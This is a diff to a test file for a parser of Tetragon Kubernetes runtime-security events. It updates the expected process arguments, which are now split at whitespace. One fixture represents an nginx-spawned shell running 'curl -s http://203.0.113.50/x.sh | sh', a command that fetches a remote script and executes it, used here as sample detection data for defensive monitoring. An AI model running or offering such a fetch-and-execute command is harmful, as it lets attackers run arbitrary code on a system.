@@ -25,7 +25,7 @@ test('process_exec in a pod: image, pod, workload, exe, quoted argument, parent'
   t.is(ev.time, Date.UTC(2026, 10, 23, 8, 0, 0, 123));
   t.deepEqual(ev.container, NGINX_CONTAINER);
   t.deepEqual(ev.pod, { namespace: 'shop', name: 'web-7d9f8c6b5-x2kqz', labels: { app: 'web', 'pod-template-hash': '7d9f8c6b5' }, workload: 'Deployment/web' });
-  t.deepEqual(ev.process, { pid: 4242, exe: '/usr/sbin/nginx', name: 'nginx', args: ['-g', 'daemon off;'], parentExe: '/usr/bin/containerd-shim-runc-v2', parentName: 'containerd-shim-runc-v2', uid: 0, user: '' });
+  t.deepEqual(ev.process, { pid: 4242, exe: '/usr/sbin/nginx', name: 'nginx', args: ['-g', 'daemon', 'off;'], parentExe: '/usr/bin/containerd-shim-runc-v2', parentName: 'containerd-shim', uid: 0, user: '' });
   t.is(ev.network, null);
 });
 
@@ -51,7 +51,8 @@ test('listen, accept (socket in return), IPv4 and IPv6 connects; tcp_close and p
 
 test('a shell with a quoted -c script under a user, then its curl connecting out', (t) => {
   const sh = ok(parseTetragonLine(lines[6]!, ctx));
-  t.deepEqual(sh.process.args, ['-c', 'curl -s http://203.0.113.50/x.sh | sh']);
+  // The quoted script is unquoted, then split at whitespace like every source's arguments (core/event.ts).
+  t.deepEqual(sh.process.args, ['-c', 'curl', '-s', 'http://203.0.113.50/x.sh', '|', 'sh']);
   t.is(sh.process.parentExe, '/usr/sbin/nginx');
   t.is(sh.process.uid, 101);
   t.is(sh.process.user, 'nginx');
